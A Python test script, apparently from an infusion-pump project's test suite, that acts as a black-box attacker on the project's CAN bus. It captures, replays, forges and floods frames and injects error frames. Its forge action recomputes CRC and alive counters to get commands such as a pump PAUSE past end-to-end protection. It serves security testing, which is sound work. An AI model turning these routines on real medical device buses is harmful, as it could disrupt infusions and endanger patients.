"""A black-box attacker on the infusion bus: python-can, cantools and the DBC, nothing of ours.

It never imports ``workstation`` or ``pumps``: its CRC-8/AUTOSAR, data ids and alive counters
are written here from ``dbc/README.md`` alone, so a bug in our codec cannot hide in it (issue 10).

    python -m tests.crossprocess.attacker -i remote -c ws://127.0.0.1:PORT/ ACTION ...

    capture --seconds S --out F.jsonl [--ids 0x301,0x381]   record frames (JSON lines)
    replay  --file F.jsonl [--ids ...] [--gap S]            send them again, as they were
    forge   --message Pump01_Command --set Command=PAUSE ...  encode, CRC, next counter, send
            [--count N] [--period S] [--listen S] [--counter-from F.jsonl]
    flood   --ids 0x000-0x010 --rate 500 --seconds 10        junk frames (8 random bytes)
    errors  --kind passive|busoff|restart --count N          CAN error frames

Each action ends with one JSON line on stdout: what it did (frames sent, counters used).
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import sys
import time
from pathlib import Path
from typing import Any

import can
import cantools

DBC = Path(__file__).resolve().parents[2] / "dbc" / "infusion.dbc"

# dbc/README.md, "End-to-end protection": data id = block of the function code + node id.
DATA_ID_BLOCK = {0x080: 0x40, 0x100: 0x00, 0x180: 0x60, 0x200: 0x20, 0x280: 0x80, 0x300: 0xA0,
                 0x380: 0xC0, 0x400: 0xE0, 0x480: 0xC0, 0x500: 0xE0, 0x700: 0xE0}


def data_id(arbitration_id: int) -> int:
    function, node = arbitration_id & 0x780, arbitration_id & 0x7F
    return DATA_ID_BLOCK[function] + node


def crc8_autosar(data: bytes) -> int:
    """CRC-8/AUTOSAR: polynomial 0x2F, init 0xFF, final XOR 0xFF, no reflection."""
    crc = 0xFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = ((crc << 1) ^ 0x2F) & 0xFF if crc & 0x80 else (crc << 1) & 0xFF
    return crc ^ 0xFF


def protect(payload: bytearray, arbitration_id: int, counter: int) -> bytes:
    """Counter in the low nibble of byte 1, then the CRC over bytes 1..7 + data id in byte 0."""
    payload[1] = (payload[1] & 0xF0) | (counter & 0x0F)
    payload[0] = crc8_autosar(bytes(payload[1:8]) + bytes([data_id(arbitration_id)]))
    return bytes(payload)


def parse_ids(text: str | None) -> set[int] | None:
    if not text:
        return None
    out: set[int] = set()
    for part in text.split(","):
        lo, _, hi = part.partition("-")
        out.update(range(int(lo, 16), int(hi or lo, 16) + 1))
    return out


def frame_line(msg: can.Message) -> str:
    return json.dumps({"t": msg.timestamp, "id": msg.arbitration_id, "ext": msg.is_extended_id,
                       "data": bytes(msg.data).hex()})


def std(arbitration_id: int, data: bytes) -> can.Message:
    return can.Message(arbitration_id=arbitration_id, data=data, is_extended_id=False)


def capture(bus: can.BusABC, seconds: float, out: Path, ids: set[int] | None) -> dict[str, Any]:
    n, end = 0, time.monotonic() + seconds
    with out.open("w") as f:
        while (left := end - time.monotonic()) > 0:
            msg = bus.recv(min(left, 0.1))
            if msg is None or msg.is_error_frame or (ids and msg.arbitration_id not in ids):
                continue
            f.write(frame_line(msg) + "\n")
            f.flush()
            n += 1
    return {"captured": n}


def load(path: Path, ids: set[int] | None) -> list[dict[str, Any]]:
    rows = [json.loads(line) for line in path.read_text().splitlines() if line.strip()]
    return [r for r in rows if not ids or r["id"] in ids]


def replay(bus: can.BusABC, path: Path, ids: set[int] | None, gap: float) -> dict[str, Any]:
    rows = load(path, ids)
    sent_at = time.time()
    for row in rows:
        bus.send(can.Message(arbitration_id=row["id"], data=bytes.fromhex(row["data"]),
                             is_extended_id=row["ext"]))
        time.sleep(gap)
    return {"replayed": len(rows), "sent_at": sent_at}


def value(text: str) -> Any:
    with contextlib.suppress(ValueError):
        return int(text, 0)
    with contextlib.suppress(ValueError):
        return float(text)
    return text  # a choice name


def forge(bus: can.BusABC, db: Any, name: str, sets: dict[str, Any], *, count: int,
          period: float, listen: float, counter_from: Path | None) -> dict[str, Any]:
    message = db.get_message_by_name(name)
    ident = message.frame_id
    signals: dict[str, Any] = {s.name: max(0, s.minimum or 0) for s in message.signals}
    counter: int | None = None
    if counter_from is not None:
        rows = load(counter_from, {ident})
        if rows:
            last = bytes.fromhex(rows[-1]["data"])
            counter = last[1] & 0x0F
            signals.update(message.decode(last, decode_choices=False))
    end = time.monotonic() + listen
    while listen and (left := end - time.monotonic()) > 0:  # learn the sender's last frame
        msg = bus.recv(min(left, 0.05))
        if msg is not None and msg.arbitration_id == ident and not msg.is_extended_id:
            counter = msg.data[1] & 0x0F
            signals.update(message.decode(bytes(msg.data), decode_choices=False))
    signals.update(sets)
    used = []
    sent_at = time.time()
    for _ in range(count):
        counter = 1 if counter is None else (counter + 1) % 16
        signals["Crc"], signals["Counter"] = 0, counter
        payload = bytearray(message.encode(signals, strict=False))
        bus.send(std(ident, protect(payload, ident, counter)))
        used.append(counter)
        if count > 1:
            time.sleep(period)
    return {"forged": name, "id": f"0x{ident:03X}", "counters": used, "sent_at": sent_at}


def flood(bus: can.BusABC, ids: set[int], rate: float, seconds: float) -> dict[str, Any]:
    order, sent = sorted(ids), 0
    start = time.monotonic()
    while (elapsed := time.monotonic() - start) < seconds:
        due = int(elapsed * rate) + 1
        while sent < due:
            with contextlib.suppress(can.CanError):  # a full TX queue: the flood goes on
                bus.send(std(order[sent % len(order)], os.urandom(8)), timeout=0.1)
            sent += 1
        time.sleep(0.002)
    return {"flooded": sent, "rate": round(sent / seconds, 1)}


# linux/can/error.h
ERROR_FRAMES = {
    "passive": (0x004 | 0x200, bytes([0, 0x30, 0, 0, 0, 0, 136, 130])),  # CRTL, counters
    "busoff": (0x040, bytes(8)),
    "restart": (0x100, bytes(8)),
}


def errors(bus: can.BusABC, kind: str, count: int) -> dict[str, Any]:
    ident, data = ERROR_FRAMES[kind]
    for _ in range(count):
        bus.send(can.Message(arbitration_id=ident, data=data, is_error_frame=True,
                             is_extended_id=False))
        time.sleep(0.01)
    return {"error_frames": count, "kind": kind}


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description="black-box attacker on the infusion bus")
    p.add_argument("-i", "--interface", required=True)
    p.add_argument("-c", "--channel", required=True)
    sub = p.add_subparsers(dest="action", required=True)
    a = sub.add_parser("capture")
    a.add_argument("--seconds", type=float, required=True)
    a.add_argument("--out", type=Path, required=True)
    a.add_argument("--ids")
    a = sub.add_parser("replay")
    a.add_argument("--file", type=Path, required=True)
    a.add_argument("--ids")
    a.add_argument("--gap", type=float, default=0.005)
    a = sub.add_parser("forge")
    a.add_argument("--message", required=True)
    a.add_argument("--set", action="append", default=[], metavar="SIGNAL=VALUE")
    a.add_argument("--count", type=int, default=1)
    a.add_argument("--period", type=float, default=0.25)
    a.add_argument("--listen", type=float, default=0.0)
    a.add_argument("--counter-from", type=Path)
    a = sub.add_parser("flood")
    a.add_argument("--ids", required=True)
    a.add_argument("--rate", type=float, required=True)
    a.add_argument("--seconds", type=float, required=True)
    a = sub.add_parser("errors")
    a.add_argument("--kind", choices=sorted(ERROR_FRAMES), required=True)
    a.add_argument("--count", type=int, default=1)
    args = p.parse_args(argv)
    bus = can.Bus(interface=args.interface, channel=args.channel)
    try:
        if args.action == "capture":
            result = capture(bus, args.seconds, args.out, parse_ids(args.ids))
        elif args.action == "replay":
            result = replay(bus, args.file, parse_ids(args.ids), args.gap)
        elif args.action == "forge":
            sets = dict(s.split("=", 1) for s in args.set)
            result = forge(bus, cantools.database.load_file(DBC), args.message,
                           {k: value(v) for k, v in sets.items()}, count=args.count,
                           period=args.period, listen=args.listen,
                           counter_from=args.counter_from)
        elif args.action == "flood":
            ids = parse_ids(args.ids)
            assert ids, "flood: --ids names no identifier"
            result = flood(bus, ids, args.rate, args.seconds)
        else:
            result = errors(bus, args.kind, args.count)
        time.sleep(0.2)  # remote: let the client deliver before it disconnects
    finally:
        bus.shutdown()
    print(json.dumps({"ok": True, "action": args.action, **result}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
